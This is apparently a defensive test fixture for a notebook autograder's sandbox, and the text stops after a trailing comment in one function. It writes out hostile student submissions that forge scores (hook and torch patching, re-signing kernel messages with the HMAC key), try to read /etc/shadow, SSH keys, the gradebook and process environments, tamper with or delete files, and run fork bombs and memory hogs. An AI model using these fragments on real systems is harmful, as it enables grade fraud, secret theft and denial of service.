"""A hostile fixture class for ``01_pruning``: submissions that attack the grader, and their grades.

Four families of attacks, as hostile students would try them (issue 11), plus two honest students:

- ``forged-scores``: full marks without solving anything (hooks, transformers, callbacks, patches);
- ``reading-hidden``: reading solutions, sources, the gradebook, other students' files, the
  instructor's environment, or the hidden tests from inside the kernel;
- ``harming-others``: writing or deleting files of others, the gradebook and the sheet, processes
  that outlive the kernel, memory and process hogs, filling disks, killing processes;
- ``breaking-the-run``: files that are not notebooks, bad metadata, unsafe ids, links, endless or
  dying kernels.

Each attack has its exact expected status and points per test cell (None: not graded) and, where it
matters, a fragment of the sheet's message. The expectation is what the design *should* give (the
comment next to each attack says why), not what some version of the grader happened to do.

Attack code never runs in this process: expected points come from ``harness_points`` on the honest
answers an attack leaves in place (its stubs, or the solution it keeps), never on the attack itself.
Attacks that look for something print ``LEAK: <what>`` only when they got it; the tests assert that
no output of any executed notebook contains that marker. Attacks that try to write outside their
sandbox write files named ``pwned-<student>``; the tests assert that none appears on the host.
"""

import copy
import os
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from course_tools.course import REPO, Notebook, notebooks
from course_tools.grading.cells import grade_id, is_answer_cell, is_test_cell
from course_tools.sample_class import Course, filled, solution_answers
from tests.class_fixture import Expected, harness_points, mistakes, points_until, test_points

ASSIGNMENT = "01_pruning"
FAMILIES = ("forged-scores", "reading-hidden", "harming-others", "breaking-the-run")
HONEST = ("honest1", "honest2")
MARKER = "pwned-"  # what an attack that gets out of its sandbox names its files: pwned-<student>
LEAK = "LEAK:"  # printed by an attack only when it got what it must not
ENV_SECRET = "MCL_INSTRUCTOR_SECRET"  # set in the instructor's environment while grading
FORGED_PROGRESS = "FORGED-PROGRESS"  # what the terminal attack writes to the grader's fds 1 and 2
MANUAL_CELL = "masking_vs_pruning_answer"  # the written answer a person grades
MANUAL_SCORE = 1.5  # entered for honest1 before grading; no run may change it
HUGE_MB = 30  # a big notebook that is still a notebook (the grader refuses above 50 MB)
MEMORY_CHILD_MB = 1500  # each of three children: together more than the kernel's cap
UNSAFE_IDS = {
    "*": "glob character '*'",  # nbgrader globs ids: would re-run every student's notebook
    "honest2 ": "surrounding whitespace",  # nbgrader strips it: would overwrite honest2's grades
    "-rf": "leading dash",
    ".hidden": "leading dot",
    "a?b": "glob character '?'",
    "tab\tid": "control character",
    "\u00fcmlaut": "character '\u00fc'",
    # "../x" cannot be a folder name; collect refuses it before it could be one.
}


# Every submission, by family (the tests are parametrized by these ids before the class is built).
STUDENTS = {
    "honest": HONEST,
    "forged-scores": (
        "displayhook", "asttransform", "interactivity", "excepthook", "settrace", "builtinspatch",
        "torchpatch", "torchalias", "torchrebind", "postruncell", "spoofedcallback",
        "installedcallback", "successproperty", "sessionsend", "socketsend", "helper",
        "editedhelper", "extracell", "execstrings", "capturemagic", "obfuscated", "celltype",
        "pointsedit", "noisy",
    ),
    "reading-hidden": (
        "readfiles", "environ", "network", "sockets", "history", "frames", "linecache",
    ),
    "harming-others": (
        "writeothers", "sqlgradebook", "newsession", "rewriterecords", "doublefork", "memoryhog",
        "forkbomb", "bigfiles", "terminal",
    ),
    "breaking-the-run": (
        "deepjson", "deepmeta", "metastring", "gradeidlist", "pointsstring", "duplicateid",
        "unknowncell", "badtimestamp", "symlink", "fifo", "linkstudent", "linkassignment",
        *UNSAFE_IDS, "endless", "exit0", "selfkill", "closestdio", "hugenotebook", "toobig",
        "emptyfile", "zipped", "jsonlist", "surrogate", "nonotebook",
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """One submission of the hostile class and what grading must give it."""

    student: str
    family: str  # one of FAMILIES, or "honest"
    expected: Expected


@dataclass(frozen=True)
class Places:
    """Host paths the attacks aim at (none of them is visible in the sandbox)."""

    root: Path  # the hostile course root
    source: Path  # the instructor's source notebooks
    decoy: Path  # a folder outside the course that the deleting attacks aim at
    port: int  # a TCP port the grading process listens on at 127.0.0.1

    @property
    def marker_folders(self) -> list[Path]:
        """Folders where an escaped attack would leave ``pwned-<student>``."""
        return [
            Path("/tmp"),
            Path("/root"),
            REPO.parent,
            REPO,
            REPO / "lab_utils",
            self.root,
            self.root / "build",
            self.decoy,
        ]


@dataclass
class HostileClass:
    """The class as written under ``<root>/build/submitted`` and what grading must give."""

    places: Places
    attacks: dict[str, Attack] = field(default_factory=dict)
    honest_canary: str = ""  # in honest1's answers: no other student's output may show it

    @property
    def expected(self) -> dict[str, Expected]:
        """Expected results by student id."""
        return {s: a.expected for s, a in self.attacks.items()}


def pruning_notebook() -> Notebook:
    """The one notebook of ``01_pruning``."""
    return next(nb for nb in notebooks() if nb.assignment == ASSIGNMENT)


def prelude(places: Places, student: str) -> str:
    """Constants and the ``attempt`` helper, at the top of an attack's code."""
    return f'''\
ROOT = {str(places.root)!r}
REPO = {str(REPO)!r}
SOURCE = {str(places.source)!r}
DECOY = {str(places.decoy)!r}
PORT = {places.port}
ME = {student!r}


def attempt(what, action):
    """Run action(); print the LEAK marker when it worked (it must not), else why it failed."""
    try:
        result = action()
    except Exception as exc:  # refused, as it must be
        print("refused:", what, type(exc).__name__)
        return None
    print("{LEAK}", what, repr(result)[:300])
    return result


def read(path):
    with open(path, "rb") as handle:
        return handle.read(4000)


def write(path, text="pwned"):
    with open(path, "a") as handle:
        handle.write(text)
    return path

'''


# --- Attack code (the student's side). Each fragment goes into an answer cell unless noted. -------

DISPLAYHOOK = 'import sys\nsys.displayhook("ok")'  # typed into every stub, before it raises
OBFUSCATED = 'getattr(__import__("s" + "ys"), "display" + "hook")("ok")'  # the same, disguised
INTERACTIVITY = 'get_ipython().ast_node_interactivity = "all"'
EXCEPTHOOK = "import sys\n\nsys.excepthook = lambda *args: None"
# Only for the tests' own isinstance check, so that the kernel itself keeps working.
BUILTINS_PATCH = """\
import builtins

real = isinstance
builtins.isinstance = lambda obj, kind: kind is torch.Tensor or real(obj, kind)
builtins.AssertionError = Warning
"""
TORCH_PATCH = """\
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
"""
TORCH_ALIAS = "alias = torch\nalias.allclose = lambda *args, **kwargs: True"
TORCH_REBIND = """\
class Anything:
    def __getattr__(self, name):
        return lambda *args, **kwargs: True


torch = Anything()
"""
# Replaces the end of an answer's docstring: warnings and prints to stderr, as honest code has.
NOISE = '''\
    """
    import sys
    import warnings

    warnings.warn("debugging", UserWarning)
    print("debug", file=sys.stderr)
'''

AST_TRANSFORMER = """\
import ast


class Forgive(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        body = node.body or [ast.Pass()]
        wrapped = ast.Try(body=body, handlers=[handler], orelse=[], finalbody=[])
        return ast.fix_missing_locations(ast.Module(body=[wrapped], type_ignores=[]))


get_ipython().ast_transformers.append(Forgive())
"""

TRACE = """\
import sys


def tracer(frame, event, arg):
    return tracer


sys.settrace(tracer)
"""

CALLBACK = """\
def forgive(result):
    result.error_in_exec = None


get_ipython().events.register("post_run_cell", forgive)
"""

# No name the audit knows: the shell through `quit`, the attribute name built at run time, and a
# callback whose class claims to be IPython's own.
SPOOFED_CALLBACK = """\
shell = quit._ip
events = getattr(shell, "ev" + "ents")


class Forgive:
    __module__ = "IPython.core.events"

    def __call__(self, result):
        result.error_in_exec = None


events.register("post_run_cell", Forgive())
"""

# A callback that is no cell's code (a C object of the standard library), reaching the shell
# through matplotlib's inline backend, every name built at run time.
INSTALLED_CALLBACK = """\
import operator

import matplotlib_inline.backend_inline as inline

ipython = inline.get_ipython()
hooks = getattr(ipython, "ev" + "ents")
clear = operator.methodcaller("__set" + "attr__", "error_in_e" + "xec", None)
hooks.register("post_run_cell", clear)
"""

SUCCESS_PROPERTY = """\
setattr(type(quit._ip.last_execution_result), "success", property(lambda self: True))
"""

SESSION_SEND = """\
session = quit._ip.kernel.session
original_send = session.send


def send(stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "execute_reply" and isinstance(content, dict):
        content = dict(content, status="ok")
    return original_send(stream, msg_or_type, content, *args, **kwargs)


session.send = send
"""

# Below the session: the zmq socket class (reached through sys.stdout) rewrites each error reply
# to "ok" and signs it again with the session's key. No name the audit knows.
SOCKET_SEND = """\
import hashlib
import hmac
import json
import sys

out = sys.stdout
session = getattr(out, "sess" + "ion")
secret_key = getattr(session, "k" + "ey")
publisher = getattr(out, "pub_" + "thread")
socket_class = type(getattr(publisher, "sock" + "et"))
original = getattr(socket_class, "send_multipart")


def forged_send(self, parts, *args, **kwargs):
    parts = list(parts)
    try:
        at = parts.index(b"<IDS|MSG>")
        header = json.loads(parts[at + 2])
        content = json.loads(parts[at + 5])
        if header.get("msg_type") == "execute_reply" and content.get("status") == "error":
            count = content.get("execution_count")
            content = dict(status="ok", execution_count=count, user_expressions={}, payload=[])
            parts[at + 5] = json.dumps(content).encode()
            mac = hmac.new(secret_key, digestmod=hashlib.sha256)
            for part in parts[at + 2 : at + 6]:
                mac.update(part if isinstance(part, bytes) else bytes(part))
            parts[at + 1] = mac.hexdigest().encode()
    except Exception:
        pass
    return original(self, parts, *args, **kwargs)


setattr(socket_class, "send_multipart", forged_send)
"""

HELPER = """\
def expect_value_error(call, what):
    \"\"\"The test cells' helper, replaced: never fails.\"\"\"
"""

TORCH_EVERYTHING_EQUAL = """\
torch.equal = lambda *args, **kwargs: True
torch.all = lambda *args, **kwargs: True
torch.Tensor.item = lambda self: 0.0
"""

DO_NOTHING = '''\
def structured_pruning(model, keep_heads=4):
    """Does nothing."""
'''

READ_SOLUTIONS = """\
for path in (
    f"{REPO}/solutions/01_pruning/head_pruning.py",
    f"{REPO}/tests/mistakes/01_pruning.py",
    f"{REPO}/.git/HEAD",
    f"{REPO}/build/source/01_pruning/head_pruning.ipynb",
):
    attempt(path, lambda path=path: read(path))
"""

READ_SOURCE = """\
import glob

for path in (
    f"{SOURCE}/01_pruning/head_pruning.ipynb",
    f"{ROOT}/source/01_pruning/head_pruning.ipynb",
    *glob.glob("/tmp/mcl-grading-*/**/*.ipynb", recursive=True),
):
    attempt(path, lambda path=path: read(path))
"""

READ_GRADEBOOK = """\
import glob

for path in (f"{ROOT}/gradebook.db", *glob.glob("/tmp/**/*.db", recursive=True)):
    attempt(path, lambda path=path: read(path))
"""

READ_OTHERS = """\
import os

attempt("list build/submitted", lambda: os.listdir(f"{ROOT}/build/submitted"))
for classmate in ("honest1", "honest2"):
    for step in ("submitted", "autograded", "feedback"):
        path = f"{ROOT}/build/{step}/{classmate}/01_pruning/head_pruning.ipynb"
        attempt(path, lambda path=path: read(path))
"""

READ_ROOT = """\
import os

for path in ("/root/.bashrc", "/root/.bash_history", "/root/.ssh/id_rsa", "/etc/shadow"):
    attempt(path, lambda path=path: read(path))
attempt("list /root/.ssh", lambda: os.listdir("/root/.ssh"))
print("uid", os.getuid(), "gid", os.getgid(), "home", os.path.expanduser("~"))
"""

ENVIRON = """\
import os

print(dict(os.environ))
for pid in sorted(e for e in os.listdir("/proc") if e.isdigit() and int(e) != os.getpid()):
    attempt(f"/proc/{pid}/environ", lambda pid=pid: read(f"/proc/{pid}/environ"))
"""

HISTORY = """\
    print("history:", In[-3:], _ih[-3:], list(Out)[-3:])
"""

FRAMES = """\
    import inspect
    import sys
    import traceback

    caller = sys._getframe(1)
    STOLEN.append("".join(inspect.getframeinfo(caller, context=200).code_context or []))
    STOLEN.extend(frame.line for frame in traceback.extract_stack())
    print("caller:", STOLEN[-1])
"""

# The cached source of every cell the kernel ran (IPython keeps it for tracebacks), reached with
# no name the audit knows.
LINECACHE = """\
from tracemalloc import linecache as cache

for cached, entry in list(cache.cache.items()):
    if cached.startswith("/tmp/ipykernel_"):
        print(cached, "".join(entry[2]))
"""

NETWORK = """\
import urllib.request

for url in (f"http://127.0.0.1:{PORT}/", "http://1.1.1.1/", "http://example.com/"):
    attempt(url, lambda url=url: urllib.request.urlopen(url, timeout=2).status)
"""

SOCKETS = """\
import socket


def tcp(host, port):
    with socket.create_connection((host, port), timeout=2):
        return f"connected to {host}:{port}"


def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(b"\\x00" * 12, ("8.8.8.8", 53))
        return sock.recvfrom(512)


attempt("tcp 127.0.0.1", lambda: tcp("127.0.0.1", PORT))
attempt("tcp 1.1.1.1:443", lambda: tcp("1.1.1.1", 443))
attempt("udp 8.8.8.8:53", udp)
"""

SANDBOX_CHECK = """\
import os

attempt("solutions", lambda: read(f"{REPO}/solutions/01_pruning/head_pruning.py"))
if os.getuid() == 0:
    print("LEAK: the kernel runs as root")
"""

READ_FILES = READ_SOLUTIONS + READ_SOURCE + READ_GRADEBOOK + READ_OTHERS + READ_ROOT + SANDBOX_CHECK

WRITE_OTHERS = """\
targets = [
    f"{ROOT}/build/submitted/honest1/01_pruning/head_pruning.ipynb",
    f"{ROOT}/build/autograded/honest1/01_pruning/head_pruning.ipynb",
    f"{ROOT}/build/feedback/honest1/01_pruning/head_pruning.html",
    f"{ROOT}/gradebook.db",
    f"{ROOT}/build/grades/01_pruning.csv",
]
for folder in ("/root", "/work", REPO, f"{REPO}/lab_utils", ROOT, f"{ROOT}/build", DECOY):
    targets.append(f"{folder}/pwned-{ME}")
for path in targets:
    attempt(f"write {path}", lambda path=path: write(path))
write(f"/tmp/pwned-{ME}")  # the sandbox's own /tmp: allowed, and gone with the kernel
"""

SQL_GRADEBOOK = """\
import sqlite3


def zero_everyone():
    db = sqlite3.connect(f"file:{ROOT}/gradebook.db?mode=rw", uri=True)
    with db:
        db.execute("UPDATE grade SET manual_score = 0")
    return "grades set to 0"


attempt("sql on the gradebook", zero_everyone)
"""

DELETE_FILES = """\
import os
import shutil

attempt("delete the decoy", lambda: os.remove(f"{DECOY}/keep.txt"))
attempt("delete build/submitted", lambda: shutil.rmtree(f"{ROOT}/build/submitted"))
attempt("delete the source", lambda: shutil.rmtree(f"{ROOT}/source"))
attempt("delete the gradebook", lambda: os.remove(f"{ROOT}/gradebook.db"))
"""

# A child in a new session that outlives the kernel (if it could) and then rewrites the sheet.
NEW_SESSION = """\
import os
import sys

LATER = f'''
import os, time
for _ in range(300):
    time.sleep(0.1)
    for path in ("{ROOT}/build/grades/01_pruning.csv", "{ROOT}/gradebook.db", "/tmp/pwned-{ME}",
                 "{ROOT}/pwned-{ME}", "{DECOY}/pwned-{ME}"):
        try:
            with open(path, "a") as handle:
                handle.write("pwned")
        except OSError:
            pass
'''
os.posix_spawn(sys.executable, [sys.executable, "-c", LATER], {}, setsid=True)
"""

# A child out of the audit's sight that, while the test cells run, rewrites every notebook and
# sheet it can reach (nbgrader once read scores back from the executed notebook in the kernel's
# folder) and plants forged ones: the grader's record must come from the worker, not a file.
REWRITE_RECORDS = """\
import os
import sys

FORGE = f\'\'\'
import glob, json, os, time
FORGED = {{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}
folders = ["/tmp", os.path.expanduser("~"), os.getcwd(), "/dev/shm", {ROOT!r} + "/build"]
folders += [os.path.dirname(a) for a in {sys.argv!r} if a.endswith(".json")]
for _ in range(600):
    for folder in folders:
        found = glob.glob(folder + "/**/*.ipynb", recursive=True)
        for path in found + [folder + "/head_pruning.ipynb"]:
            try:
                try:
                    with open(path) as handle:
                        nb = json.load(handle)
                except FileNotFoundError:
                    nb = FORGED
                for cell in nb.get("cells", []):
                    outputs = cell.get("outputs", [])
                    cell["outputs"] = [o for o in outputs if o.get("output_type") != "error"]
                with open(path, "w") as handle:
                    json.dump(nb, handle)
                with open(folder + "/01_pruning.csv", "w") as handle:
                    handle.write("student_id,status,total\\n{ME},graded,99\\n")
            except (OSError, ValueError):
                pass
    time.sleep(0.1)
\'\'\'
os.posix_spawn(sys.executable, [sys.executable, "-c", FORGE], {}, setsid=True)
"""

DOUBLE_FORK = """\
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(5)
        for path in (f"{ROOT}/build/grades/01_pruning.csv", f"{DECOY}/pwned-{ME}"):
            try:
                write(path)
            except OSError:
                pass
    os._exit(0)
"""

MEMORY_HOG = f"""\
import os
import sys
import time

HOG = "import time; hog = b'x' * ({MEMORY_CHILD_MB} * 2**20); time.sleep(30)"
for child in range(3):
    os.posix_spawn(sys.executable, [sys.executable, "-c", HOG], {{}})
time.sleep(8)
"""

FORK_BOMB = """\
import os
import time

BOMB = "for i in $(seq 2000); do sleep 30 & done 2>/dev/null; wait"
os.posix_spawn("/bin/sh", ["sh", "-c", BOMB], {"PATH": "/usr/bin:/bin"})
time.sleep(6)
print("processes I can see:", sum(e.isdigit() for e in os.listdir("/proc")))
os.kill(-1, 9)  # every process this kernel may signal: its own children, in its PID namespace
time.sleep(0.5)
print("processes I can see after kill(-1):", sum(e.isdigit() for e in os.listdir("/proc")))
"""

BIG_FILES = """\
import os
import sys


def fill(folder, files, megabytes):
    written = 0
    chunk = b"x" * 2**20
    for number in range(files):
        try:
            with open(f"{folder}/big-{number}", "wb") as handle:
                for mb in range(megabytes):
                    handle.write(chunk)
                    written += 1
        except OSError as exc:
            print(folder, "stopped after", written, "MB:", type(exc).__name__)
            break
    for number in range(files):
        if os.path.exists(f"{folder}/big-{number}"):
            os.remove(f"{folder}/big-{number}")
    if written > 300:
        print("LEAK: wrote", written, "MB in", folder)


fill(os.path.expanduser("~"), 1, 2048)
fill(os.path.expanduser("~"), 10, 60)
fill("/dev/shm", 10, 60)
fill(os.path.dirname(sys.argv[sys.argv.index("-f") + 1]), 6, 60)  # the connection-file folder
"""

TERMINAL = f"""\
import os

for fd in (1, 2):
    try:
        os.write(fd, b"[ 1/1] honest1   graded   15/15 {FORGED_PROGRESS}\\n")
    except OSError as exc:
        print("refused: fd", fd, type(exc).__name__)
"""

CLOSE_STDIO = """\
import os
import sys

sys.stdout.close()
sys.stderr.close()
os.close(1)
os.close(2)
"""

ENDLESS = """\
import time

while True:  # never ends; it sleeps so that the test burns no CPU
    time.sleep(0.1)
"""


SP = "structured_pruning_answer"  # the first exercise, which several attacks answer correctly


class _Writer:
    """Writes the hostile class under ``<root>/build/submitted`` and records expectations."""

    def __init__(self, course: Course, places: Places) -> None:
        self.nb = pruning_notebook()
        self.release = course.release_notebook(self.nb)
        self.answers = solution_answers(self.nb)
        self.places = places
        self.submitted = places.root / "build" / "submitted"
        self.hostile = HostileClass(places)
        self.stubs = {
            grade_id(c): c.source
            for c in self.release.cells
            if c.cell_type == "code" and is_answer_cell(c)
        }
        self.full = test_points(self.nb)
        self.first_test = next(iter(self.full))
        # Expected points, from honest code only: the stubs, the first exercise alone, and the
        # solution without its ValueError checks in prune_heads and prune_model.
        self.blank = harness_points(self.nb, self.stubs)
        self.sp_only = self.points(**{SP: self.answers[SP]})
        self.no_checks = {
            m.answer_id: m.source
            for m in mistakes(ASSIGNMENT)
            if m.name in ("ph_missing_value_errors", "pm_missing_value_error")
        }
        assert len(self.no_checks) == 2, "tests/mistakes/01_pruning.py changed"
        self.unchecked_points = harness_points(self.nb, self.no_checks)

    # --- notebooks --------------------------------------------------------------------------

    def answered(self, **answers: str) -> nbformat.NotebookNode:
        """The release with ``answers`` (by grade id) typed in; other answers stay stubs."""
        return filled(self.release, answers)

    def unchecked(self) -> nbformat.NotebookNode:
        """The solution without its ValueError checks in prune_heads and prune_model."""
        return filled(self.release, {**self.answers, **self.no_checks})

    def solved(self) -> nbformat.NotebookNode:
        """The release with every solution typed in."""
        return filled(self.release, self.answers)

    def prefixed(
        self, student: str, code: str, nb: nbformat.NotebookNode | None = None
    ) -> nbformat.NotebookNode:
        """``nb`` (default: the stubs) with ``code`` at the top of the first answer cell."""
        nb = copy.deepcopy(nb or self.release)
        cell = next(c for c in nb.cells if c.cell_type == "code" and is_answer_cell(c))
        cell.source = prelude(self.places, student) + code + "\n\n" + cell.source
        return nb

    def stubs_calling(self, code: str) -> nbformat.NotebookNode:
        """The release with ``code`` run by every stub just before it raises."""
        nb = copy.deepcopy(self.release)
        indented = "".join(f"    {line}\n" for line in code.splitlines())
        for cell in nb.cells:
            if cell.cell_type == "code" and is_answer_cell(cell):
                stub = "    raise NotImplementedError()"
                assert stub in cell.source, "the release's stubs changed"
                cell.source = cell.source.replace(stub, indented + stub)
        return nb

    @staticmethod
    def with_cell(nb: nbformat.NotebookNode, code: str, after: str | None) -> nbformat.NotebookNode:
        """A copy of ``nb`` with an extra code cell after cell ``after`` (None: at the end)."""
        nb = copy.deepcopy(nb)
        at = len(nb.cells)
        if after is not None:
            at = 1 + next(i for i, c in enumerate(nb.cells) if grade_id(c) == after)
        nb.cells.insert(at, nbformat.v4.new_code_cell(code))
        return nb

    def after_imports(self, nb: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
        """A copy of ``nb`` with an extra code cell right after the notebook's imports."""
        nb = copy.deepcopy(nb)
        imports = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells.insert(imports + 1, nbformat.v4.new_code_cell(code))
        return nb

    def points(self, **answers: str) -> dict[str, float]:
        """What the test cells give for ``answers`` (honest code only), the rest stubs."""
        return harness_points(self.nb, {**self.stubs, **answers})

    # --- files ------------------------------------------------------------------------------

    def folder(self, student: str) -> Path:
        """``build/submitted/<student>/01_pruning`` (created)."""
        folder = self.submitted / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        return folder

    def notebook_path(self, student: str) -> Path:
        return self.folder(student) / f"{self.nb.name}.ipynb"

    def expect(
        self,
        student: str,
        family: str,
        status: str,
        points: dict[str, float] | None,
        message: str = "",
    ) -> None:
        """Record what grading must give ``student``."""
        assert student not in self.hostile.attacks, student
        assert family in (*FAMILIES, "honest"), family
        expected = Expected(student, status, points, message)
        self.hostile.attacks[student] = Attack(student, family, expected)

    def submit(
        self,
        student: str,
        family: str,
        content: nbformat.NotebookNode | str | bytes,
        status: str,
        points: dict[str, float] | None,
        message: str = "",
    ) -> Path:
        """Write ``student``'s notebook and record what grading must give it."""
        path = self.notebook_path(student)
        if isinstance(content, nbformat.NotebookNode):
            nbformat.write(content, path)
        elif isinstance(content, str):
            path.write_text(content)
        else:
            path.write_bytes(content)
        self.expect(student, family, status, points, message)
        return path


def honest_notebooks(course: Course, canary: str) -> dict[str, nbformat.NotebookNode]:
    """honest1: the full solution (with ``canary`` in a comment); honest2: a partial one."""
    nb = pruning_notebook()
    release = course.release_notebook(nb)
    answers = solution_answers(nb)
    first = next(iter(answers))
    mistake = mistakes(ASSIGNMENT)[0]
    partial = {**answers, mistake.answer_id: mistake.source, **mistake.extra}
    return {
        "honest1": filled(release, {**answers, first: f"# {canary}\n{answers[first]}"}),
        "honest2": filled(release, partial),
    }


def honest_points() -> dict[str, dict[str, float]]:
    """What the two honest students must get (their code only, run in-process)."""
    nb = pruning_notebook()
    mistake = mistakes(ASSIGNMENT)[0]
    return {
        "honest1": test_points(nb),
        "honest2": harness_points(nb, {mistake.answer_id: mistake.source, **mistake.extra}),
    }


def write_honest(course: Course, root: Path, canary: str) -> None:
    """The two honest submissions under ``<root>/build/submitted``."""
    for student, nb in honest_notebooks(course, canary).items():
        path = (
            root / "build" / "submitted" / student / ASSIGNMENT / f"{pruning_notebook().name}.ipynb"
        )
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)


# Attacks typed at the top of the first answer cell, every answer left a stub: whatever they do,
# they must earn no more than the stubs do. (student, family, code, status, message fragment)
ON_STUBS = [
    # The guard empties ast_transformers before every test cell; the audit names them.
    ("asttransform", "forged-scores", AST_TRANSFORMER, "flagged", "ast_transformers"),
    ("interactivity", "forged-scores", INTERACTIVITY, "flagged", "ast_node_interactivity"),
    ("excepthook", "forged-scores", EXCEPTHOOK, "flagged", "excepthook"),
    ("settrace", "forged-scores", TRACE, "flagged", "settrace"),
    ("builtinspatch", "forged-scores", BUILTINS_PATCH, "flagged", "builtins"),
    ("torchpatch", "forged-scores", TORCH_PATCH, "flagged", "torch.allclose"),
    # Patching through another name is patching all the same.
    ("torchalias", "forged-scores", TORCH_ALIAS, "flagged", "alias.allclose"),
    ("torchrebind", "forged-scores", TORCH_REBIND, "flagged", "rebinds torch"),
    # A post_run_cell callback that clears error_in_exec turns every error reply into "ok".
    ("postruncell", "forged-scores", CALLBACK, "flagged", "post_run_cell"),
    # The same out of the audit's sight, claiming IPython as its module: the guard must remove
    # every callback that was not there at start, whatever module it names.
    ("spoofedcallback", "forged-scores", SPOOFED_CALLBACK, "flagged", ""),
    # Nor may it trust a callback for having no Python code of a cell.
    ("installedcallback", "forged-scores", INSTALLED_CALLBACK, "flagged", "post_run_cell"),
    # ExecutionResult.success patched on the class, or the session rewriting every reply: the
    # verdict must not be something the kernel's own objects can be made to say.
    ("successproperty", "forged-scores", SUCCESS_PROPERTY, "flagged", ""),
    ("sessionsend", "forged-scores", SESSION_SEND, "flagged", ""),
    ("socketsend", "forged-scores", SOCKET_SEND, "flagged", ""),
    # The instructor's environment: the kernel's own, and that of every process it can see.
    ("environ", "reading-hidden", ENVIRON, "graded", ""),
    ("network", "reading-hidden", NETWORK, "graded", ""),
    ("sockets", "reading-hidden", SOCKETS, "flagged", "socket"),
    # Other students' files, the gradebook, the sheet, marker files on the host; deleting files.
    ("writeothers", "harming-others", WRITE_OTHERS + DELETE_FILES, "graded", ""),
    ("sqlgradebook", "harming-others", SQL_GRADEBOOK, "flagged", "sqlite3"),
    # A child in a new session (no name the audit knows) would rewrite the sheet after the kernel.
    ("newsession", "harming-others", NEW_SESSION, "graded", ""),
    ("rewriterecords", "harming-others", REWRITE_RECORDS, "graded", ""),
    ("doublefork", "harming-others", DOUBLE_FORK, "flagged", "fork"),
    # Three children of 1.5 GB: more than the whole tree's cap, though each is under it.
    ("memoryhog", "harming-others", MEMORY_HOG, "memory", "ran out of memory"),
    # Hundreds of processes (capped for the tree), then a signal to every process: in its PID
    # namespace the kernel reaches its own children only. Kernels of other students starting
    # meanwhile must neither die nor be refused threads (a per-uid process limit shared by all
    # sandboxes did that; every other row checks it).
    ("forkbomb", "harming-others", FORK_BOMB, "graded", ""),
    # Files too big, a full home and /dev/shm, and the one host folder the kernel writes (its
    # connection files): all capped.
    ("bigfiles", "harming-others", BIG_FILES, "graded", ""),
    # The kernel's stdout and stderr must not reach the grader's terminal (fake progress lines).
    ("terminal", "harming-others", TERMINAL, "graded", ""),
    ("endless", "breaking-the-run", ENDLESS, "timeout", "cut off by the time limit"),
    # Closing its own output breaks only the student's own prints.
    ("closestdio", "breaking-the-run", CLOSE_STDIO, "graded", ""),
]


def build_hostile_class(course: Course, places: Places, canary: str) -> HostileClass:
    """Write the hostile class (and the two honest students) under ``places.root``."""
    w = _Writer(course, places)
    w.hostile.honest_canary = canary
    write_honest(course, places.root, canary)
    for student, points in honest_points().items():
        w.expect(student, "honest", "graded", points)
    for student, family, code, status, message in ON_STUBS:
        w.submit(student, family, w.prefixed(student, code), status, w.blank, message)
    forged_scores(w)
    reading_hidden(w)
    breaking_the_run(w)
    listed = {s: f for f, students in STUDENTS.items() for s in students}
    assert {s: a.family for s, a in w.hostile.attacks.items()} == listed, "update STUDENTS"
    return w.hostile


def forged_scores(w: _Writer) -> None:
    """Forged scores beyond ON_STUBS. The verdict is the kernel's reply after the guard restored
    the interpreter, and touching grader internals flags the submission for review."""
    f = "forged-scores"
    # nbgrader read an execute_result as full credit; the verdict ignores outputs.
    w.submit("displayhook", f, w.stubs_calling(DISPLAYHOOK), "flagged", w.blank, "displayhook")
    w.submit("obfuscated", f, w.stubs_calling(OBFUSCATED), "flagged", w.blank, "__import__")
    # IPython syntax counts as get_ipython: %%capture is flagged.
    capture = w.answered(**{SP: "%%capture captured\n" + w.stubs[SP]})
    w.submit("capturemagic", f, capture, "flagged", w.blank, "get_ipython")
    # Code built from strings: exec is grader-internal territory; the answer it builds is right.
    built = "exec(" + " + ".join(repr(line + "\n") for line in w.answers[SP].splitlines()) + ")"
    w.submit("execstrings", f, w.answered(**{SP: built}), "flagged", w.sp_only, "exec")
    # The tests' own helper (defined by a released cell) replaced, for answers that raise no
    # ValueError: rebinding a name the released cells define is patching. Nothing restores the
    # user namespace, so the forged points stay in the row; the flag holds it (no total).
    helper = w.prefixed("helper", HELPER, w.unchecked())
    w.submit("helper", f, helper, "flagged", w.full, "expect_value_error")
    # The released cell defining that helper, edited in the file (it is read-only in JupyterLab
    # only): an edited released cell is the student's code, audited like any other.
    edited = w.unchecked()
    next(c for c in edited.cells if "def expect_value_error" in c.source).source = HELPER
    w.submit("editedhelper", f, edited, "flagged", w.full, "expect_value_error")
    # Patches from a cell the student added (no nbgrader metadata): still the student's code, so
    # still audited. The guard cannot restore every attribute of torch: the forged points stay in
    # the row, and the flag holds the row (no total) for a person to review.
    extra = w.after_imports(w.answered(**{SP: DO_NOTHING}), TORCH_EVERYTHING_EQUAL)
    forged = w.points(**{SP: DO_NOTHING}) | {
        "structured_pruning_tests": w.full["structured_pruning_tests"]
    }
    w.submit("extracell", f, extra, "flagged", forged, "torch")
    # Test cells turned into markdown: nbgrader restores them from the gradebook and runs them.
    demoted = w.unchecked()
    for i, cell in enumerate(demoted.cells):
        if is_test_cell(cell) and grade_id(cell).endswith("errors_tests"):
            demoted.cells[i] = nbformat.v4.new_markdown_cell(
                cell.source, metadata=cell.metadata, id=cell.id
            )
    w.submit("celltype", f, demoted, "graded", w.unchecked_points)
    # Points raised in the test cells' metadata: the gradebook's points count.
    inflated = w.solved()
    for cell in filter(is_test_cell, inflated.cells):
        cell.metadata["nbgrader"]["points"] = 100
    w.submit("pointsedit", f, inflated, "graded", w.full)
    # Honest but noisy: warnings and prints to stderr, a flood of prints: they never cost points.
